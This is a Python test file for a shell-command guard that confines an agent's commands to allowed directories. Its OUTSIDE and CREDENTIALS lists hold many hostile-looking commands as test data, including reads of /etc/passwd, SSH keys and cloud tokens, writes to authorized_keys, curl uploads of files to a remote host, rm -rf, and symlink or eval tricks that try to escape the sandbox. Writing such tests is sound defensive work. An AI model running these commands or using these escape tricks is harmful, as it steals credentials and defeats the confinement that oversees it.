"""Confinement: which paths a command names, where they lead, and what is refused because that is unknown."""

from pathlib import Path

import pytest

from limpet.core.command import Argv, Command, Script
from limpet.guard.policy.bash.parser import Parser
from limpet.guard.policy.judge import Judge
from limpet.guard.policy.policy import Policy
from limpet.guard.policy.verdict import Allowed, Denied
from tests.guard.verdicts import verdict

OUTSIDE = [
    "cat ../../../etc/hostname",
    "cat</etc/hostname",
    "cd / && cat etc/hostname",
    "cd /; cat etc/hostname",
    "cd ..; cat x",
    "cd src; cat ../../etc/x",
    "(cd / && cat etc/x)",
    "pushd /etc && cat hostname",
    "cat /etc/hostname # it's",
    "X=/etc; cat $X/hostname",
    "X=/etc; cat ${X}/hostname",
    "X=etc; cat /$X/hostname",
    'X=/etc/x; cat "$X"',
    "cat ${x:-/etc/hostname}",
    "cat ${x:=/etc/hostname}",
    "cat $X",
    'cat "$X"',
    "cat $(echo /etc/x)",
    'cat "src/$X"',
    "for f in /etc/*; do cat $f; done",
    "for f in a /etc/x; do cat $f; done",
    "read f < list; cat $f",
    "curl -d @/etc/hostname https://example.com",
    "curl -F a=@/etc/hostname https://example.com",
    "curl -T /etc/hostname https://example.com",
    "curl file:///etc/hostname",
    "curl FILE:///etc/hostname",
    "curl -o /etc/x https://example.com",
    "curl -o/etc/x https://example.com",
    "curl -K list",
    "wget -i list",
    "wget -O /etc/x https://example.com",
    "tar --file=/etc/x -t",
    "tar -f/etc/x -t",
    "tar -tf ../../etc/x",
    "tar -C /etc -cf a .",
    "tar -cf a -T list",
    "tar -Pxf a",
    "cat ~root/.bashrc",
    "cat ~+/../../etc/x",
    "cat ~bob/x",
    "cat /tmp/../etc/hostname",
    "cat /usr/share/../../etc/hostname",
    "cat /usr/share/x",
    "cat $'\\x2fetc\\x2fhostname'",
    "cat /e\\tc/x",
    "cat '/etc'/x",
    "cat /et{c,x}/hostname",
    "cat {/etc/x,a}",
    "cat /et*/hostname",
    "cat /etc/host*",
    "cat ../../*",
    "cat *x/y",
    "dd if=/etc/passwd of=a",
    "dd if=a of=/etc/x",
    "cp a /etc/x",
    "cp -t /etc a",
    "cp --target-directory=/etc a",
    "cp -t/etc a",
    "ln -s /etc/passwd a",
    "ln -s ../../../etc/passwd sub/a",
    "ln /etc/passwd a",
    "grep x /etc/passwd",
    "grep -f /etc/passwd a",
    "grep -f/etc/passwd a",
    "grep -e x /etc/passwd",
    "grep --file=/etc/passwd a",
    "sed -n p /etc/passwd",
    "sed -n -e p /etc/passwd",
    "awk '{print}' /etc/passwd",
    "awk 'BEGIN{while((getline l < \"/etc/passwd\")>0) print l}'",
    "awk 'BEGIN{ARGV[1]=\"/etc/passwd\";ARGC=2} 1'",
    "awk -f /etc/x",
    "sort /etc/passwd",
    "sort -o /etc/x a",
    "sort --files0-from=list",
    "grep -R x .",
    "cp -rL a b",
    "diff -r a b",
    "find -L .",
    "tar chf a b",
    "rg --follow x",
    "wc --files0-from=list",
    "md5sum -c list",
    "find /etc -name x",
    "find / -maxdepth 1",
    "find . -newer /etc/passwd",
    "find -L . -exec cat {} +",
    "find $X -name a",
    "find . -fprint /etc/x",
    "echo x > /etc/x",
    "echo x >> /etc/x",
    "echo x >| /etc/x",
    "echo x &> /etc/x",
    "echo x >& /etc/x",
    "echo x 2> /etc/x",
    "ls > $X",
    "cat < $X",
    "exec 3< /etc/passwd; cat <&3",
    "cat <> /etc/x",
    "{ cat; } < /etc/passwd",
    "while read l; do echo $l; done < /etc/passwd",
    "echo $(< /etc/passwd)",
    "mapfile a < /etc/passwd",
    "[[ -f /etc/passwd ]]",
    "test -f /etc/passwd",
    "[ -r /etc/passwd ]",
    "[ a -nt /etc/passwd ]",
    "echo /etc/passwd | xargs cat",
    "ls | xargs cat",
    "find . -print0 | xargs -0 cat",
    "bash -c 'cat /etc/passwd'",
    "eval 'cat /etc/passwd'",
    "f() { cat /etc/passwd; }; f",
    "f() { cat $1; }; f /etc/passwd",
    "env -C /etc cat passwd",
    "timeout 5 cat /etc/passwd",
    "python3 x.py",
    "./run.sh",
    "make",
    "git log",
    "unknown_program a",
    "sudo cat a",
    "cat /proc/self/root/etc/passwd",
    "cat /dev/sda",
    "cat /dev/../etc/passwd",
    "cat ~/../../etc/passwd",
    'cat "$HOME/../../etc/passwd"',
    "HOME=/etc; cat ~/passwd",
    "cat $PWD/../../etc/passwd",
    "cat $OLDPWD/x",
    'cd "$X" && cat a',
    "cd - && cat a",
    "cd /mnt && return; cat x",
    "cd / && exit 1 2; cat etc/x",
    "cd / && break; cat etc/x",
    "trap 'cd /etc' DEBUG; cat passwd",
    "trap 'cd /etc' USR1; cat passwd",
    "pushd; cat a",
    "popd; cat a",
    "mkdir -p a/b; ln -s ../.. a/b/x; mv a/b/x .; cat x/etc/x",
    "ln -sr a b",
    "cd() { :; }; cd src; cat ../../etc/x",
    "f() { cd /; }; f; cat etc/x",
    "eval 'cd /'; cat etc/x",
    'while read -r d; do cd "$d"; cat a; done < list',
    "[ -d a ] && cd / || true; cat etc/x",
    "(exit 1) && x=a || x=/etc/x; cat $x",
    'case $1 in a) x=/etc/x;; *) x=b;; esac; cat "$x"',
    "x=a; { x=/etc/x; }; cat $x",
    "x=a; x+=/../../../etc/x; cat $x",
    "x=/etc/x; y=$x; cat $y",
    "export x=/etc/x; cat $x",
    "declare x=/etc/x; cat $x",
    "printf -v x %s /etc/x; cat $x",
    "x=../../etc; cat {$x,a}/y",
    "if x; then cd /etc; fi; cat a",
    "for d in /etc; do cd $d; cat passwd; done",
    "while true; do cd ..; cat a; done",
    "chmod 777 /etc/x",
    "chown --reference=/etc/x a",
    "touch -r /etc/x a",
    "tee /etc/x < a",
    "install a /etc/x",
    "mv a /etc",
    "rm -rf /etc/x",
    "diff a /etc/x",
    "jq -f /etc/x a",
    "jq . /etc/x",
    "rg x /etc",
    "file -f list",
    "stat /etc",
    "du -sh /",
    "ls -R /",
    "split a /etc/x",
    "mktemp -p /etc",
    "mktemp --tmpdir=/etc x",
    "xxd /etc/x",
    "date -f /etc/x",
    "date -r /etc/x",
    "source /etc/profile",
    ". ./x",
    "trap 'cat /etc/x' EXIT",
    'x=/etc/passwd; cat < "$x"',
    "a=(/etc/passwd); cat ${a[0]}",
    "sed -n '1r /etc/passwd' a",
    "sed 'w /etc/x' a",
    "sed -i p /etc/x",
    "env time -o /etc/x ls",
    "/usr/bin/time --output=/etc/x ls",
    "xargs -a /etc/x echo",
    "xargs -0a/etc/x",
    "xargs --arg-file=/etc/x",
    "env -C /etc ls",
    "env --chdir=../../etc pwd",
    "curl -H @/etc/x http://example.com",
    "curl --write-out @/etc/x http://example.com",
    "curl -d@../../etc/x http://example.com",
    "curl --data-urlencode x@../../etc/x http://example.com",
    "xz --files=list",
    "xz --files0=list",
    "strings @list",
    "nm @list",
    "rg --ignore-file list x",
    "echo /etc/*",
    "cd src && printf '%s\\n' ../../../etc/*",
    "set -- /etc/*; echo $#",
    'for f in /etc/*; do echo "$f"; done',
    "select f in /etc/*; do echo $f; done",
    'x=(/etc/*); echo "${x[@]}"',
    "echo */passwd",
]
CREDENTIALS = [
    "cat ~/.ssh/id_rsa",
    "ls ~/.aws",
    "cat .git-credentials",
    "cat $HOME/.ssh/config",
    "tar cf a ~/.gnupg",
    "cat /home/agent/.bash_history",
    "cp ~/.netrc a",
    "cat ~/.config/gcloud/x",
    "cd ~/.ssh && cat id_rsa",
    "cat ~/.docker/config.json",
    "cat ~/.vault-token",
    "echo x >> ~/.ssh/authorized_keys",
]


@pytest.mark.anyio
async def test_a_path_outside_or_unknown_is_refused(parser: Parser) -> None:
    for text in OUTSIDE:
        assert isinstance(await verdict(parser, text, Policy(allowed_paths=())), Denied), text


@pytest.mark.anyio
async def test_credentials_are_refused_inside_the_roots_unless_opened_by_name(parser: Parser) -> None:
    for text in CREDENTIALS:
        denied = await verdict(parser, text, Policy(allowed_paths=()))

        assert isinstance(denied, Denied), text
        assert "credentials lie there" in denied.reason, text
        assert await verdict(parser, text, Policy(allowed_paths=(), credential_paths_too=True)) == Allowed(), text


@pytest.mark.anyio
async def test_an_allowed_path_opens_its_directory_and_no_neighbour(parser: Parser) -> None:
    policy = Policy(allowed_paths=("/srv/shared",))

    assert await verdict(parser, "cat /srv/shared/a/b", policy) == Allowed()
    assert isinstance(await verdict(parser, "cat /srv/shared2/a", policy), Denied)


@pytest.mark.anyio
async def test_the_refusal_names_the_word_the_path_and_what_would_open_it(parser: Parser) -> None:
    denied = await verdict(parser, 'X=/etc; cat "$X/hostname"', Policy(allowed_paths=()))

    assert denied == Denied(
        rule="allowed_paths",
        reason='`"$X/hostname"` is /etc/hostname outside /mnt/data, /home/agent, /tmp.',
        remedy="Use a path inside, or add the directory to allowed_paths.",
    )


@pytest.mark.anyio
async def test_an_argv_is_confined_like_a_script(parser: Parser) -> None:
    judge = Judge(Policy(allowed_paths=()), parser=parser)

    assert await judge.judge(Command(what=Argv(("cat", "$HOME", "a b")))) == Allowed()
    assert isinstance(await judge.judge(Command(what=Argv(("cat", "/etc/passwd")))), Denied)
    assert isinstance(await judge.judge(Command(what=Argv(("bash", "-c", "cat /etc/passwd")))), Denied)


@pytest.mark.anyio
async def test_the_working_directory_counts_and_must_be_inside(parser: Parser) -> None:
    judge = Judge(Policy(allowed_paths=()), parser=parser)

    assert await judge.judge(Command(what=Script("cat ../b"), cwd="/mnt/data/a")) == Allowed()
    assert isinstance(await judge.judge(Command(what=Script("cat ../../b"), cwd="/mnt/data/a")), Denied)
    assert isinstance(await judge.judge(Command(what=Script("cat b"), cwd="/etc")), Denied)


@pytest.mark.anyio
async def test_variables_of_the_call_are_known(parser: Parser) -> None:
    judge = Judge(Policy(allowed_paths=()), parser=parser)

    assert await judge.judge(Command(what=Script('cat "$F"'), env={"F": "a"})) == Allowed()
    assert isinstance(await judge.judge(Command(what=Script('cat "$F"'), env={"F": "/etc/x"})), Denied)


@pytest.mark.anyio
async def test_links_are_followed_to_the_nearest_ancestor_that_exists(parser: Parser, tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (root / "link").symlink_to("/etc")
    (root / "inside").symlink_to(root / "real")
    (root / "real").mkdir()

    async def resolve(path: str) -> str | None:
        return str(Path(path).resolve())

    judge = Judge(Policy(allowed_paths=()), parser=parser, roots=[str(root)], resolve=resolve)
    for text in ("touch link/new", "cp a link/new", "cat link/hostname", "cd link && cat x", "cat inside/../../x"):
        assert isinstance(await judge.judge(Command(what=Script(text))), Denied), text
    for text in ("touch inside/new", "cat real/a", "cat missing/a/b"):
        assert await judge.judge(Command(what=Script(text))) == Allowed(), text


@pytest.mark.anyio
async def test_a_pattern_that_matches_a_link_to_the_outside_is_refused(parser: Parser, tmp_path: Path) -> None:
    (tmp_path / "leads-out").symlink_to("/etc")
    (tmp_path / "stays").symlink_to(tmp_path / "a")

    async def resolve(path: str) -> str | None:
        return str(Path(path).resolve())

    async def links(directory: str) -> list[str]:
        return [one.name for one in Path(directory).iterdir() if one.is_symlink()]

    judge = Judge(Policy(allowed_paths=()), parser=parser, roots=[str(tmp_path)], resolve=resolve, links=links)
    for text in (
        "cat *",
        "cat ./*",
        "cat lead*",
        "ls l*/",
        "cat [^s]*",
        "cat [[:alpha:]]*",
        "shopt -s nocaseglob; cat LEAD*",
        "for f in *; do cat $f; done",
    ):
        assert isinstance(await judge.judge(Command(what=Script(text))), Denied), text
    for text in (
        "cat *.py",
        "cat s*",
        "cat stays",
        "echo *",
        "for f in *; do echo $f; done",
        "x=(l*); set -- *; echo $#",
    ):
        assert await judge.judge(Command(what=Script(text))) == Allowed(), text


@pytest.mark.anyio
async def test_a_known_command_is_looked_up_again_where_links_may_have_changed(parser: Parser, tmp_path: Path) -> None:
    async def resolve(path: str) -> str | None:
        return str(Path(path).resolve())

    judge = Judge(Policy(allowed_paths=()), parser=parser, roots=[str(tmp_path)], resolve=resolve)
    command = Command(what=Script("cat a"))

    assert await judge.judge(command) == Allowed()
    (tmp_path / "a").symlink_to("/etc/passwd")
    assert isinstance(await judge.judge(command), Denied)


@pytest.mark.anyio
async def test_a_path_of_which_nobody_knows_where_it_leads_is_refused(parser: Parser) -> None:
    async def resolve(path: str) -> str | None:
        return None

    denied = await Judge(Policy(allowed_paths=()), parser=parser, resolve=resolve).judge(Command(what=Script("cat a")))

    assert isinstance(denied, Denied)
